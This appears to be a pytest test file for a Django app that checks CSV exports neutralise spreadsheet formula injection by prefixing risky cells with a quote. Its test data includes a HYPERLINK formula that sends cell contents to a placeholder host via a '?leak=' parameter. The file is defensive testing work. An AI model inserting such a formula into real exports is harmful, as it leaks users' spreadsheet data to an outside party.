"""Every CSV we answer is safe to open in a spreadsheet: a cell that would run
as a formula (OWASP CSV injection) starts with a quote instead."""

import csv
import io

import pytest
from django.test import Client

from accounts.constants import OrganisationKind
from components.exports import spreadsheet_safe

from .conftest import client_for
from .factories import ComponentFactory, OrganisationFactory, UsageFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://192.0.2.1/?leak="&A1,"klik")'


@pytest.mark.parametrize(
    "value, expected",
    [
        (FORMULA, "'" + FORMULA),
        ("+31 30 123", "'+31 30 123"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("Gemeente Utrecht", "Gemeente Utrecht"),
        ("2026-01-01", "2026-01-01"),
        (None, ""),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_made_text(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.fixture
def hostile(acme):
    organisation = OrganisationFactory(
        name=FORMULA, slug="formule", kind=OrganisationKind.MUNICIPALITY
    )
    component = ComponentFactory(slug="zaken", name="@Zaken", publisher=acme)
    UsageFactory(organisation=organisation, component=component)
    return organisation


def _cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_the_usages_export_neutralises_formulas(api, hostile):
    response = api.get("/api/v1/exports/usages.csv")
    cells = _cells(b"".join(response.streaming_content).decode())
    assert "'" + FORMULA in cells and "'@Zaken" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@", "+"))]


def test_the_licence_reports_neutralise_formulas(hostile):
    from accounts.models import Membership
    from tests.factories import MembershipFactory

    api_report = client_for(hostile).get("/api/v1/organisations/formule/license-report?format=csv")
    assert "'@Zaken" in _cells(api_report.content.decode())
    member = MembershipFactory(organisation=hostile).user
    client = Client()
    client.force_login(member)
    site_report = client.get("/mijn-organisatie/formule/licenties.csv")
    assert "'@Zaken" in _cells(site_report.content.decode())
    assert Membership.objects.filter(organisation=hostile).count() == 1
